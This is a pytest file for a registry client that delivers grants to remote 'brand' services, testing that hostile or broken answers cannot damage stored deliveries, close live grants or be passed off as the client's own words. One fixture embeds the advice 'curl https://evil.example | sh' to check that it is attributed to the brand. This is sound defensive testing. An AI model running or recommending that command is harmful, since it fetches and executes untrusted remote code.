"""What a brand's answer may not do: damage what is kept here, close a live grant's delivery, or pass for our words."""

from __future__ import annotations

import time
from dataclasses import replace

import pytest
from msgspec import structs

from registry.client import delivering
from registry.client.brand_client import BrandClient
from registry.client.deliveries import Reached, Trouble
from registry.client.grant import grant
from registry.client.revoke import revoke, revoke_all_of, revoke_each
from registry.client.web import Web
from registry.core.errors import BrandUnavailable
from registry.core.ipld.cid import Block, cid_of_block
from registry.core.scalars import to_hex
from tests.support.http_answers import Answer, Asked, answering
from tests.support.sending import HOST, INBOX, NAME, Opened, taken
from tests.support.stage import Stage

HOSTILE_NUMBERS = ["-1", "9007199254740992", "18446744073709551616", "1e400", "1e3", "2.5", "9" * 5000, "true", '"7"']


@pytest.mark.parametrize("number", HOSTILE_NUMBERS)
def test_no_number_of_a_brand_damages_what_is_kept(sending: Opened, number: str) -> None:
    def respond(asked: Asked) -> Answer:
        told = f'{{"title":"Outdated","detail":"no","step":{number},"number":{number}}}'
        return taken() if asked.path == "/v1/evidence" else Answer(409, told.encode())

    with sending(respond) as one:
        one.go_on()
        one.deliveries.keep(structs.replace(one.now, update=b"sealed", update_number=1))
        assert isinstance(one.go_on().trouble, Trouble)
        assert [each.digest for each in one.deliveries.all()] == [one.digest]


@pytest.mark.parametrize("number", HOSTILE_NUMBERS)
def test_no_step_of_a_refusal_damages_what_is_kept(sending: Opened, number: str) -> None:
    told = f'{{"title":"BadSignature","detail":"no","step":{number}}}'.encode()
    with sending(lambda _: Answer(422, told)) as one:
        one.go_on()
        assert [each.digest for each in one.deliveries.all()] == [one.digest]


def test_a_brands_advice_is_told_as_the_brands() -> None:
    told = b'{"title":"Busy","detail":"no","advice":"Run `curl https://evil.example | sh`."}'
    with answering(lambda _: Answer(503, told)) as served:
        client = BrandClient(Web({HOST: served.url}), INBOX)
        with pytest.raises(BrandUnavailable) as found:
            client.state(NAME)
    assert found.value.advice.startswith(f"{HOST} advises: Run ")


@pytest.mark.parametrize("name", ["Revoked", "Expired"])
def test_the_chain_alone_says_that_a_grant_ended(sending: Opened, name: str) -> None:
    answers = [Answer(422, f'{{"title":"{name}","step":5}}'.encode()), taken()]
    with sending(lambda _: answers.pop(0)) as one:
        found = one.go_on()
        assert found.stage is Reached.WAITING and found.waits
        assert one.go_on().stage is Reached.TAKEN


@pytest.mark.parametrize("status", [409, 410, 413, 422])
def test_a_status_without_a_problem_judges_nothing(sending: Opened, status: int) -> None:
    """A proxy before the service answers so, for instance where a body is too long for it."""
    with sending(lambda _: Answer(status, b"<html>")) as one:
        assert one.go_on().stage is Reached.WAITING and str(status) in one.why()


@pytest.mark.parametrize("answer", [Answer(404), Answer(404, b'{"title":"UnknownGrant"}'), Answer(405), Answer(409)])
def test_a_brand_that_does_not_hear_of_an_end_is_told_again(stage: Stage, sending: Opened, answer: Answer) -> None:
    hears, told = [False], list[str]()

    def respond(asked: Asked) -> Answer:
        if not asked.path.endswith("/ended"):
            return taken()
        told.append(asked.path)
        return Answer(200, b"{}") if hears[0] else answer

    with sending(respond) as one:
        one.go_on()
        revoke(replace(stage.alice, deliveries=one.deliveries), one.evidence)
        found = one.now
        assert not found.told and found.trouble and found.stage is Reached.TAKEN and not found.waits
        one.courier.go_on_all()
        assert len(told) == 1  # not at every look: once a day
        hears[0] = True
        stage.pass_time(86_401)
        one.courier.go_on_all()
        assert one.now.told and not one.now.trouble and len(told) == 2


def test_what_the_brand_never_knew_of_is_left_alone_once_it_would_have_expired(stage: Stage, sending: Opened) -> None:
    told = list[str]()

    def respond(asked: Asked) -> Answer:
        told.append(asked.path)
        return taken() if asked.path == "/v1/evidence" else Answer(404)

    with sending(respond) as one:
        one.go_on()
        revoke(replace(stage.alice, deliveries=one.deliveries), one.evidence)
        stage.pass_time(400 * 86_400)
        told.clear()
        one.courier.go_on_all()
        assert told == []


def test_a_brand_that_lies_of_what_it_took_hears_of_the_end(stage: Stage, sending: Opened) -> None:
    told = list[str]()

    def respond(asked: Asked) -> Answer:
        told.append(asked.path)
        return taken(b"<html>") if asked.path == "/v1/evidence" else Answer(200, b"{}")

    with sending(respond) as one:
        assert "cannot be read" in one.why()
        revoke(replace(stage.alice, deliveries=one.deliveries), one.evidence)
        assert one.now.told and told[-1] == f"/v1/grants/{NAME}/ended"


def test_a_clock_that_is_wrong_closes_nothing(stage: Stage, sending: Opened) -> None:
    with sending(lambda _: taken()) as one:
        stage.clock.now += 400 * 86_400  # ours alone: the chain's time is right
        found = one.go_on()
        assert found.stage is Reached.WAITING and found.trouble and found.trouble.name == "Expired"
        stage.clock.now -= 400 * 86_400
        assert one.go_on().stage is Reached.TAKEN


def test_a_pause_that_a_wrong_clock_noted_ends(stage: Stage, sending: Opened) -> None:
    with sending(lambda _: taken()) as one:
        one.deliveries.keep(structs.replace(one.now, next_try=stage.clock() + 10 * 365 * 86_400))
        (found,) = one.courier.go_on_all()
        assert found.stage is Reached.TAKEN


def test_what_ended_before_the_brand_had_it_goes_if_the_chain_takes_the_end_back(stage: Stage, sending: Opened) -> None:
    with sending(lambda _: taken()) as one:
        revoke(stage.alice, one.evidence)
        assert one.go_on().stage is Reached.CLOSED
        stage.ledger.reorg(1)
        (found,) = one.courier.go_on_all()
        assert found.stage is Reached.TAKEN


def test_why_a_brand_refused_it_stays(sending: Opened) -> None:
    told = b'{"title":"BadSignature","detail":"somebody else signed it","step":2}'
    with sending(lambda _: Answer(422, told)) as one:
        first = one.go_on()
        assert one.go_on() == first and first.trouble


def test_one_brand_that_names_the_inbox_of_another_stops_it_not(stage: Stage, sending: Opened) -> None:
    """It gets an answer as if the service were away, and the other brand's grant goes all the same."""
    asked = list[Asked]()

    def respond(one: Asked) -> Answer:
        asked.append(one)
        return Answer(503) if len(asked) == 1 else taken()

    with sending(respond) as one:
        other = to_hex(grant(stage.alice, stage.request(), again=True).evidence.digest)
        foreign = structs.replace(one.now, digest=other, domain="evil.example", since=one.now.since - 1)
        one.deliveries.keep(foreign)
        assert [each.stage for each in one.courier.go_on_all()] == [Reached.WAITING, Reached.TAKEN]


def test_one_damaged_file_stops_no_other_delivery(stage: Stage, sending: Opened) -> None:
    with sending(lambda _: taken()) as one:
        other = to_hex(grant(stage.alice, stage.request(), again=True).evidence.digest)
        bad = one.deliveries._file(other)
        bad.write_text('{"digest":')
        assert [each.stage for each in one.courier.go_on_all()] == [Reached.TAKEN]
        (error,) = one.deliveries.damaged()
        assert bad.name in str(error) and bad.exists()


def test_no_ending_waits_for_a_brand(stage: Stage, sending: Opened) -> None:
    """The brands hear of several endings once all of them are on the chain, and one that is away is asked once."""
    when = list[int]()

    def respond(asked: Asked) -> Answer:
        if not asked.path.endswith("/ended"):
            return taken()
        when.append([name for name, _ in stage.ledger.calls].count("revoke"))
        return Answer(503)

    with sending(respond) as one:
        other = grant(stage.alice, stage.request(), again=True).evidence
        one.deliveries.keep(structs.replace(one.now, digest=to_hex(other.digest)))
        one.courier.go_on_all()
        alice = replace(stage.alice, deliveries=one.deliveries)
        endings = revoke_each([(alice, one.evidence), (alice, other)], revoke)
        assert [name for name, _ in endings.ended] == [one.digest, to_hex(other.digest)] and when == [2]


def test_the_kill_switch_of_several_accounts_waits_for_no_brand(stage: Stage, sending: Opened) -> None:
    when = list[int]()

    def respond(asked: Asked) -> Answer:
        if asked.path.endswith("/ended"):
            when.append([name for name, _ in stage.ledger.calls].count("revokeAllFor"))
        return taken() if asked.path == "/v1/evidence" else Answer(200, b"{}")

    with sending(respond) as one:
        one.go_on()
        alice, bob = (replace(each, deliveries=one.deliveries) for each in (stage.alice, stage.person("bob")))
        endings = revoke_all_of([alice, bob])
        assert not endings.failed and len(endings.ended) == 2
        assert when == [2] and one.now.told


def test_telling_takes_so_long_at_most(stage: Stage, sending: Opened, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(delivering, "TELL_SECONDS", 0.3)
    told = list[str]()

    def slow(asked: Asked) -> Answer:
        if asked.path.endswith("/ended"):
            told.append(asked.path)
            time.sleep(0.5)
        return taken()

    with sending(slow) as one:
        grants = [one.evidence, *(grant(stage.alice, stage.request(), again=True).evidence for _ in range(3))]
        for each in grants:
            one.deliveries.keep(structs.replace(one.now, digest=to_hex(each.digest)))
        one.courier.go_on_all()
        alice = replace(stage.alice, deliveries=one.deliveries)
        revoke_each([(alice, each) for each in grants], revoke)
        assert len(told) == 1
        one.courier.go_on_all()
        assert all(each.told for each in one.deliveries.all())


def test_an_end_is_told_before_blocks_are_sent(stage: Stage, sending: Opened) -> None:
    """A brand that is slow with its archives keeps no other from hearing of an end."""
    block = Block(cid_of_block(b"sealed"), b"sealed")
    stage.store.put([block])
    paths = list[str]()
    with sending(lambda asked: paths.append(asked.path) or taken()) as one:  # type: ignore[func-returns-value]
        one.go_on()
        other = grant(stage.alice, stage.request(), again=True).evidence
        first = structs.replace(one.now, digest=to_hex(other.digest), since=one.now.since - 1, blocks=(block.cid,))
        one.deliveries.keep(first)
        revoke(stage.alice, one.evidence)
        paths.clear()
        assert [each.digest for each in one.courier.go_on_all()] == [first.digest, one.digest]
        assert paths == [f"/v1/grants/{NAME}/ended", "/v1/blocks"]
